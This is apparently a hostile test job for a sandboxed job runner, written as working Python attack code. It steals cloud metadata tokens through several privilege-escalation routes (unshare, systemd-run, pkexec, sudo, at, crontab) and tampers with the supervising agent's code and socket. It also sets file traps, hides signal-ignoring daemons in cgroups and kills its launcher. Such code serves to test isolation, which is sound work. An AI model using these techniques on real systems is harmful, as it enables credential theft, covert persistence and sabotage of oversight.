"""A job that tries to be its machine, to outlive its generation, and to read the next job. Runs in the box.

Each attack is a function: it returns what it got, "" or an error where it got nothing. ``main`` writes what all of
them got to ``attacks.json`` in the run folder, and waits to be ended. Standard library only; the machine's own Python.

    python hostile.py            all attacks, then those that hide
    python hostile.py try        all attacks, printed: for whoever got out of the jobs' unit
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

METADATA = "http://169.254.169.254/computeMetadata/v1/instance/?recursive=true"
FETCH = f"curl -sf -m 5 -H Metadata-Flavor:Google {METADATA}"
HOST = Path("/run/spotkeeper-job/host.sock")  # where the agent asks for programs
TRACE = "a-hostile-job-was-here"
PIDFD_GETFD = 438
NAME = "hidden-daemon"


def shell(script: str) -> str:
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=30, check=False)
    return done.stdout.strip()


def token_directly() -> str:
    request = urllib.request.Request(METADATA, headers={"Metadata-Flavor": "Google"})
    with urllib.request.urlopen(request, timeout=5) as answer:  # noqa: S310
        return str(answer.read().decode())


def token_as_root_of_a_user_namespace() -> str:
    return shell(f"unshare -Urmn true; unshare -Ur {FETCH}")


def token_as_a_subordinate_user() -> str:
    return shell(f"unshare --map-auto --map-root-user --setuid 1 --setgid 1 {FETCH}")


def token_through_a_lingering_user() -> str:
    shell("loginctl enable-linger; busctl call org.freedesktop.login1 /org/freedesktop/login1 "
          "org.freedesktop.login1.Manager SetUserLinger ubb $(id -u) true false; sleep 1")  # fmt: skip
    return shell(f"XDG_RUNTIME_DIR=/run/user/$(id -u) systemd-run --user --pipe --wait -q {FETCH}")


def token_through_the_system() -> str:
    return shell(f"systemd-run --pipe --wait -q --uid=root {FETCH} || pkexec {FETCH} || sudo -n {FETCH}")


def token_through_at() -> str:
    return shell(f"rm -f /tmp/at; echo '{FETCH} >/tmp/at' | at now && sleep 2 && cat /tmp/at")


def crontab() -> str:
    return shell(f"echo '* * * * * {FETCH} >/tmp/cron' | crontab - && crontab -l")


def the_bus() -> str:
    """Under what covers it, and past it."""
    ways = (
        "busctl list -q --no-legend | head -1",
        "unshare -Urm sh -c 'umount -l /run/dbus && busctl list | head -1'",
        "ls /proc/1/root/run/dbus /run/user/ /run/systemd/private | grep -v ^/",
    )
    return shell("; ".join(ways))


def file_with_others_rights() -> str:
    """Set-uid programs of the image gain nothing."""
    return shell(
        "for way in 'su -c id' 'sudo -n id' 'mount -t tmpfs none /mnt' 'umount /run'; do $way && echo $way; done"
    )


def what_is_none_of_its_own() -> str:
    """Files and folders of the machine's that it can write: the agent's code, state and run folder among them."""
    places = "/run/spotkeeper* /var/lib/spotkeeper /usr/local/lib/spotkeeper /etc /mnt"
    mine = "-path '/run/spotkeeper/node*' -o -path '/run/spotkeeper/*/[0-9]*' -o -path '/var/lib/spotkeeper/*/*'"
    code = "find /var/lib/spotkeeper/bundle ! -type l -writable"
    return shell(f"find {places} ! -type l -writable ! \\( {mine} \\); {code}")


def the_agents_code() -> str:
    """What the agent would import, now or once it becomes another."""
    return shell(
        "for folder in /var/lib/spotkeeper/bundle /var/lib/spotkeeper/bundle/*/site /var/lib/spotkeeper; do "
        "touch $folder/sitecustomize.py && echo $folder; mv $folder $folder.mine && echo $folder; done; "
        "ln -sfn /tmp /var/lib/spotkeeper/bundle/current && echo current; "
        "ln -s /tmp /run/spotkeeper/agent.json.tmp && echo temporary"
    )


def the_place_of_what_starts_programs() -> str:
    """To ask it in the agent's stead, to delete its socket, to listen there for the next job's secrets."""
    got = []
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
        sock.connect(str(HOST))
        got.append("asks")
    with contextlib.suppress(OSError):
        HOST.unlink()
        got.append("deletes")
    with contextlib.suppress(OSError):
        HOST.parent.rename("/tmp/taken")  # noqa: S108
        got.append("moves")
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(HOST))
        got.append("listens")
    return " ".join(got)


def descriptors_of_what_starts_programs() -> str:
    """It is this user's process too, the only one in the unit's own group so far."""
    (host,) = (unit_group() / "cgroup.procs").read_text().split()
    pidfd, libc = os.pidfd_open(int(host)), ctypes.CDLL(None)
    taken = [str(number) for number in range(16) if libc.syscall(PIDFD_GETFD, pidfd, number, 0) >= 0]
    return " ".join(taken)


ATTACKS: list[Callable[[], str]] = [
    what_is_none_of_its_own, the_agents_code,
    token_directly, token_as_root_of_a_user_namespace, token_as_a_subordinate_user, token_through_a_lingering_user,
    token_through_the_system, token_through_at, crontab, the_bus, file_with_others_rights,
    the_place_of_what_starts_programs, descriptors_of_what_starts_programs,
]  # fmt: skip


def tried() -> dict[str, str]:
    """What each attack got, of those that got something."""
    got: dict[str, str] = {}
    for attack in ATTACKS:
        try:
            found = attack()
        except (OSError, subprocess.TimeoutExpired):
            continue
        if found:
            got[attack.__name__] = found[:200]
    return got


def set_traps(run: Path) -> None:
    """For the agent to open, in its run folder and among the launcher's sockets: pipes, links, depth, nonsense."""
    for name in ("result.json", "exit.0", "error.0", "pid.0", "stacks.json", "stacks.log"):
        os.mkfifo(run / name)
    (run / "torchrun.log").rename(run / "mine.txt")
    os.mkfifo(run / "torchrun.log")
    (run / "exit.1").symlink_to("/dev/zero")
    (run / "error.1").write_text("[" * 60_000)
    (run / "logs").rename(run / "was-logs")
    (run / "logs").symlink_to("/var/lib/spotkeeper")
    node = run.parents[1] / "node"
    for name in ("saver.log", "environment.disk"):
        (node / name).unlink(missing_ok=True)
        (node / name).symlink_to("/run/spotkeeper/agent.json")
    (node / "environment.building").mkdir()
    os.chdir(run)
    for _ in range(2000):
        Path("d").mkdir()
        os.chdir("d")
    os.chdir("/")


def unit_group() -> Path:
    own = next(line[3:].strip() for line in Path("/proc/self/cgroup").read_text().splitlines() if line[:3] == "0::")
    return Path("/sys/fs/cgroup" + own.partition(".service")[0] + ".service")


def hide(group: Path) -> None:
    """A daemon in this group, without its parents, its session, its environment, its marks, deaf to signals."""
    there, begun = os.pipe()  # closed by the daemon's exec
    if os.fork():
        os.close(begun)
        os.wait()
        os.read(there, 1)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    group.mkdir(exist_ok=True)
    (group / "cgroup.procs").write_text("0")
    resource.setrlimit(resource.RLIMIT_RTTIME, (1 << 40, 1 << 40))
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    os.execve("/usr/bin/sleep", [NAME, "10000"], {})  # noqa: S606


def leave_traces() -> None:
    """Where the next job would look, or be made to look."""
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.environ["HOME"]):  # noqa: S108
        Path(folder, TRACE).write_text("read me")
    deep = Path(os.environ["HOME"], TRACE + ".d", *("d" * 40 for _ in range(60)))
    deep.mkdir(parents=True, exist_ok=True)
    deep.chmod(0)


def main() -> None:
    """By its generation: 1 does what it can, 2 and 3 hide and kill who would find them, 4 is as any job is."""
    unit, gen = unit_group(), os.environ["SPOTKEEPER_GEN"]
    got: dict[str, str] = {}
    groups: list[Path] = []
    if gen == "1":
        got = tried()
        set_traps(Path(os.environ["SPOTKEEPER_RUN"]))
    if gen in "14":
        leave_traces()
    if gen in "12":
        groups = [unit, unit / "hidden", unit / "hidden/deeper", *unit.glob("saver-*"), *unit.glob("launcher-*")]
    if gen == "3":
        groups = [unit / "spoilt"]
    for group in groups:
        hide(group)
    if gen == "3":
        (unit / "spoilt/cgroup.kill").chmod(0)
        (unit / "spoilt").chmod(0)
    Path(os.environ["SPOTKEEPER_RUN"], "attacks.json").write_text(json.dumps({"got": got, "hidden": len(groups)}))
    if gen in "23":
        launcher = os.getppid()
        guard = int(Path(f"/proc/{launcher}/stat").read_text().rpartition(")")[2].split()[1])
        os.kill(guard, signal.SIGKILL)
        os.kill(launcher, signal.SIGKILL)
    while True:
        time.sleep(60)


if __name__ == "__main__":
    if sys.argv[1:] == ["try"]:
        print(json.dumps(tried()))
    else:
        main()
